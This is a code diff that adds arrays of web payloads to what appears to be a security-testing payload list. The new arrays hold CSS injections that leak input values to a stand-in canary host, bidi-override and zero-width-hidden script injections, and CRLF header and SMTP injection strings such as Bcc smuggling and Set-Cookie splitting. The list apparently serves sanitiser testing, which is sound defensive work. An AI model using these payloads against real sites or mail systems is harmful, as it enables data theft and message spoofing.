@@ -232,6 +232,41 @@ const MUTATIONS = [
   '<p style="width:expression(alert(1));behavior:url(//canary.example/h)">x',
 ];
 
+const STYLES = [
+  '<style>@font-face{font-family:x;src:url(//canary.example/font)}*{font-family:x}</style>',
+  '<style>input[value^=a]{background:url(//canary.example/leak?a)}</style>',
+  '</style><style>body{display:none}',
+  '<div style="position:fixed;inset:0;background:url(//canary.example/cover)">x</div>',
+  '<svg style="background-image:image-set(\'//canary.example/set\' 1x)">',
+  '{}*{background:url(//canary.example/bare)}',
+  '<p style=animation:x onanimationend=alert(1)>',
+];
+
+/** What turns or hides the text beside it; only where there are paragraphs, since a line does not take it. */
+const DIRECTIONS = [
+  '\u202egnp.tpircsavaj:elif',
+  '\u202b<script>alert(1)</script>\u202c',
+  '\u2066https://example.com\u2069\u202emoc.live//:sptth',
+  '\u202dabc\u202edef<img src=x onerror=alert(1)>',
+  '\u2067\u2066\u202ealert(1)\u202c\u2069\u2069',
+];
+const HIDDEN = [
+  '\u200b<script>\u200balert(1)</script>',
+  'a\u0301\u0489\u0489<svg onload=alert(1)>',
+  '\ufeff<img src=x onerror=alert(1)>',
+];
+
+/** For mails and logs: what would begin a header, a message or a line of its own. */
+const LINES = [
+  'x\r\nBcc: eve@canary.example\r\n\r\n<script>alert(1)</script>',
+  'x\nSubject: Prize\nContent-Type: text/html\n\n<img src=x onerror=alert(1)>',
+  '\n.\nMAIL FROM:<eve@canary.example>\nRCPT TO:<bob@canary.example>\nDATA\n',
+  '%0d%0aSet-Cookie:%20a=b',
+  '=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=',
+  '=?utf-8?Q?=0d=0aBcc:eve=40canary.example?=',
+  '--boundary\nContent-Type: text/html\n\n<script>alert(1)</script>\n--boundary--',
+];
+
 export const PAYLOADS = [
   ...new Set([
     ...TAGS,
@@ -244,5 +279,12 @@ export const PAYLOADS = [
     ...CODINGS,
     ...TEMPLATES,
     ...MUTATIONS,
+    ...STYLES,
+    ...DIRECTIONS,
+    ...HIDDEN,
+    ...LINES,
   ]),
 ];
+
+/** Those that a field of one line takes. */
+export const PAYLOAD_LINES = PAYLOADS.filter((text) => !/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u.test(text));
